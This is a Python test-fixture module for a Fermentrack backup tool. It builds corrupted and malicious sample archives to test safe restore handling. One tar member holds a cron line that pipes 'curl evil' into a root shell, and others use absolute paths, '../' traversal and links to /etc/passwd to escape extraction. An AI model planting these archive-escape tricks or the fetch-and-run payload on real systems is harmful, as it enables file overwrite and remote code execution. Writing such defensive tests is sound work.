"""Sample Fermentrack backups for tests: the generator from examples/make_sample.py,
plus helpers that damage archives in the ways real backups get damaged."""

from __future__ import annotations

import importlib.util
import io
import json
import sys
import tarfile
import zipfile
from pathlib import Path
from types import ModuleType

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
SAMPLE = EXAMPLES / "2026-11-27T03.00.00.tar.xz"
UNSAFE_KINDS = ("absolute", "dotdot", "symlink", "hardlink", "device")


def _load_make_sample() -> ModuleType:
    name = "fermentrack_examples_make_sample"
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, EXAMPLES / "make_sample.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


make_sample = _load_make_sample()
make_backup = make_sample.make_backup
backup_name = make_sample.backup_name
DUMP_NAME: str = make_sample.DUMP_NAME


def truncate(path: Path, n: int) -> Path:
    """Cut `path` to its first `n` bytes, in place."""
    data = path.read_bytes()
    path.write_bytes(data[:n])
    return path


def flip_byte(path: Path, offset: int) -> Path:
    """Invert every bit of the byte at `offset`, in place."""
    data = bytearray(path.read_bytes())
    data[offset] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def _dump_bytes() -> bytes:
    return json.dumps({"file_version": 3, "beers": []}).encode()


def make_unsafe_tar(dest: Path, kind: str) -> Path:
    """A .tar.xz with a valid data dump plus one member that is unsafe to extract.

    kind: absolute (/etc/cron.d/evil), dotdot (data/../../evil), symlink (escaping),
    hardlink (to /etc/passwd), device (a character device).
    """
    if kind not in UNSAFE_KINDS:
        raise ValueError(kind)
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"2026-11-27T03.00.00-{kind}.tar.xz"
    with tarfile.open(path, "w:xz") as tar:
        dump = _dump_bytes()
        ti = tarfile.TarInfo(DUMP_NAME)
        ti.size = len(dump)
        tar.addfile(ti, io.BytesIO(dump))
        payload = b"* * * * * root curl evil | sh\n"
        if kind in ("absolute", "dotdot"):
            ti = tarfile.TarInfo("/etc/cron.d/evil" if kind == "absolute" else "data/../../evil")
            ti.size = len(payload)
            tar.addfile(ti, io.BytesIO(payload))
        elif kind == "symlink":
            ti = tarfile.TarInfo("data/link")
            ti.type = tarfile.SYMTYPE
            ti.linkname = "../../../etc/passwd"
            tar.addfile(ti)
        elif kind == "hardlink":
            ti = tarfile.TarInfo("data/hard")
            ti.type = tarfile.LNKTYPE
            ti.linkname = "/etc/passwd"
            tar.addfile(ti)
        else:
            ti = tarfile.TarInfo("data/sda")
            ti.type = tarfile.CHRTYPE
            ti.devmajor, ti.devminor = 8, 0
            tar.addfile(ti)
    return path


def make_zip_bad_crc(dest: Path) -> Path:
    """A .zip whose data dump member's bytes no longer match its stored CRC-32."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / "2026-11-27T03.00.00.zip"
    dump = _dump_bytes()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr(DUMP_NAME, dump)
        zf.writestr("data/beer_1_log.csv", b"log_time,beer_temp\n2026-11-27T03:00:00,66.1\n")
    data = bytearray(path.read_bytes())
    at = data.index(b'"beers"')  # stored, so the member's bytes are in the file as is
    data[at + 1 : at + 6] = b"BEERS"
    path.write_bytes(bytes(data))
    return path
